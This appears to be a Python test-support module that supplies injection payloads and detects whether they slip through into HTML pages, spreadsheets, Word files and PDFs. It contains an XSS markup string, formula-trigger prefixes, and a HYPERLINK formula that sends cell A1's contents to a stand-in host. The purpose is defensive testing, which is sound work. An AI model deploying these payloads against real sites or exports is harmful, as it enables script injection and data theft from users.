"""Words that attack whatever shows them, and the signs that they have got through."""

import io
import zipfile
from collections.abc import Iterator
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pikepdf

from tests.support.excel_checks import read_book
from tests.support.web_page import WebPage, words

MARK = "attacked"
"""The name of every element, attribute, function and address that an attack brings."""

MARKUP = (
    f"javascript:{MARK}() \"'><{MARK} on{MARK}='x'></{MARK}></title></textarea></option></script>"
    f"<script>{MARK}()</script><!--{{{{ {MARK} }}}}{{% {MARK} %}}&lt;{MARK}&gt;"
)

FORMULAS = ("=", "+", "-", "@", "\t=", "\r=")
"""What a spreadsheet takes for the beginning of a formula."""


def formula(sign: str = "=") -> str:
    """Words that fetch something from elsewhere where a spreadsheet counts them out."""
    return f'{sign}HYPERLINK("https://{MARK}.example/?x="&A1;"{MARK}")'


def got_through(html: str) -> list[str]:
    """What of the page is markup that an attack has brought, or might run."""
    page = WebPage(html)
    found = []
    for one in page.elements:
        named = [name for name in (one.tag, *one.attrib) if MARK in name]
        handlers = [name for name in one.attrib if name.startswith("on")]
        led = [
            value
            for name in ("href", "src", "action", "formaction")
            if (value := one.get(name, "")) and not _is_safe(value)
        ]
        if named or handlers or led:
            found.append(f"<{one.tag}> {named + handlers + led}")
        # Data for django-allauth's own scripts lie in the page; anything else would run.
        if one.tag == "script" and one.get("type") != "application/json" and words(one):
            found.append(f"a script that says {words(one)[:60]}")
    return found


def _is_safe(address: str) -> bool:
    parts = urlsplit(address)
    # The picture of a code to scan; a browser runs nothing in a picture.
    if parts.scheme == "data":
        return parts.path.startswith("image/")
    return parts.scheme in {"", "http", "https", "mailto", "otpauth"} and MARK not in parts.netloc


def got_into_workbook(file: bytes) -> list[str]:
    """Each cell that an attack has made a formula of, and each address that it leads to."""
    found = [
        f"{sheet}!{address}"
        for sheet, cells in read_book(file).items()
        for address, cell in cells.items()
        if cell.formula is not None and MARK in cell.formula
    ]
    return [*found, *_outward(file)]


def got_into_word(file: bytes) -> list[str]:
    """Each element, field and address of a Word file that an attack has brought."""
    return [*_outward(file), *_fields(file)]


def _parts(file: bytes) -> Iterator[tuple[str, ElementTree.Element]]:
    with zipfile.ZipFile(io.BytesIO(file)) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                yield name, ElementTree.fromstring(package.read(name))


def _outward(file: bytes) -> Iterator[str]:
    for name, root in _parts(file):
        for one in root.iter():
            if MARK in str(one.tag) or any(MARK in key for key in one.attrib):
                yield f"{name}: {one.tag}"
            if one.get("TargetMode") == "External" and MARK in one.get("Target", ""):
                yield f"{name}: leads to {one.get('Target')}"


def _fields(file: bytes) -> Iterator[str]:
    for name, root in _parts(file):
        for one in root.iter():
            told = (one.text or "") + "".join(one.attrib.values())
            if str(one.tag).endswith(("}instrText", "}fldSimple")) and MARK in told:
                yield f"{name}: a field that says {told[:60]}"


_RUNS = ("/JS", "/JavaScript", "/Launch", "/EmbeddedFiles")


def got_into_pdf(file: bytes) -> list[str]:
    """Each action of a PDF that runs something, or leads where an attack wants."""
    with pikepdf.open(io.BytesIO(file)) as pdf:
        found = []
        for one in pdf.objects:
            if not isinstance(one, pikepdf.Dictionary):
                continue
            found += [
                name for name in ("/JS", "/JavaScript", "/Launch", "/EmbeddedFiles") if name in one
            ]
            if MARK in str(one.get("/URI", "")):
                found.append(str(one["/URI"]))
        return found
